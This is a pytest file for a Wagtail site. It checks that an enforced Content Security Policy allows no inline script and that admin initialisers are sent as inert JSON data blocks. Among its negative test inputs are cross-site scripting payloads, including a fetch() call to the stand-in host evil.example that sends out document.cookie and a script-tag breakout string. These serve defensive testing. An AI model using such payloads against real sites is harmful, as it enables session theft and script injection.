"""Item 8: every page carries an enforced Content Security Policy that allows no inline script,
and the Wagtail admin's inline initialisers reach the browser as inert data blocks."""

import json
import re

import pytest
from django.urls import reverse

from example_site import inline_scripts
from tests.pages import site_tree

pytestmark = pytest.mark.django_db


def policy(response):
    """The enforced policy as {directive: [sources]}."""
    assert "Content-Security-Policy-Report-Only" not in response.headers
    header = response.headers["Content-Security-Policy"]
    directives = (part.split() for part in header.split(";") if part.strip())
    return {name: sources for name, *sources in directives}


@pytest.fixture
def home():
    return site_tree.network_home()


@pytest.mark.parametrize("where", ["public home page", "admin sign-in", "admin page editor"])
def test_the_policy_allows_scripts_from_our_origin_only(client, admin_user, home, where):
    if where == "public home page":
        response = client.get(home.url)
    elif where == "admin sign-in":
        response = client.get(reverse("wagtailadmin_login"))
    else:
        client.force_login(admin_user)
        response = client.get(reverse("wagtailadmin_pages:edit", args=(home.pk,)))
    assert response.status_code == 200
    directives = policy(response)
    assert directives["script-src"] == ["'self'"]
    assert directives["default-src"] == ["'self'"]
    assert directives["object-src"] == ["'none'"]
    assert directives["base-uri"] == ["'self'"]
    assert directives["form-action"] == ["'self'"]
    assert directives["frame-ancestors"] == ["'self'"]


def test_the_page_editor_sends_no_inline_script_only_data_blocks(admin_client, home):
    html = admin_client.get(reverse("wagtailadmin_pages:edit", args=(home.pk,))).text
    inline = [
        body
        for attributes, body in re.findall(r"<script([^>]*)>(.*?)</script>", html, re.S)
        if "src=" not in attributes and "application/json" not in attributes and body.strip()
    ]
    assert inline == []
    blocks = re.findall(r"<script type=\"application/json\" data-seutu-init>(.*?)</script>", html)
    calls = {json.loads(block)["call"] for block in blocks}
    assert "initDateTimeChooser" in calls  # the publishing schedule's go-live and expiry
    assert html.index(inline_scripts.RUNNER) < html.index("</head>")


def test_wagtails_initialisers_are_recognised_with_their_arguments():
    assert inline_scripts.recognise(
        'new SnippetChooser("id_town", {"modalUrl": "/admin/snippets/choose/seutu_crm/town/"});'
    ) == ("SnippetChooser", ["id_town", {"modalUrl": "/admin/snippets/choose/seutu_crm/town/"}])
    assert inline_scripts.recognise(
        'initDateChooser("id_date", {"dayOfWeekStart": 1, "format": "Y-m-d"});'
    ) == ("initDateChooser", ["id_date", {"dayOfWeekStart": 1, "format": "Y-m-d"}])
    panel = """
        (function() {
            var panel = new InlinePanel(JSON.parse("{\\u0022type\\u0022: \\u0022InlinePanel\\u0022}"));
        })();
    """
    assert inline_scripts.recognise(panel) == ("InlinePanel", [{"type": "InlinePanel"}])


@pytest.mark.parametrize(
    "script",
    [
        "alert(document.cookie);",
        'new SnippetChooser("id_town", {});fetch("//evil.example/" + document.cookie);',
        "initDateChooser(location.hash);",  # not JSON arguments
        'new Function("alert(1)")("x", {});',
    ],
)
def test_any_other_inline_script_is_left_to_be_blocked(script):
    html = f"<html><head></head><body><script>{script}</script></body></html>"
    assert inline_scripts.recognise(script) is None
    assert inline_scripts.defuse(html) == html


def test_a_data_block_cannot_close_its_script_element():
    block = inline_scripts.data_block(
        inline_scripts.Initialiser("Chooser", ["id_x", {"title": "</script><script>alert(1)"}])
    )
    body = block.removeprefix('<script type="application/json" data-seutu-init>')
    assert "</script>" not in body.removesuffix("</script>")
    assert json.loads(body.removesuffix("</script>"))["args"][1]["title"].startswith("</script>")
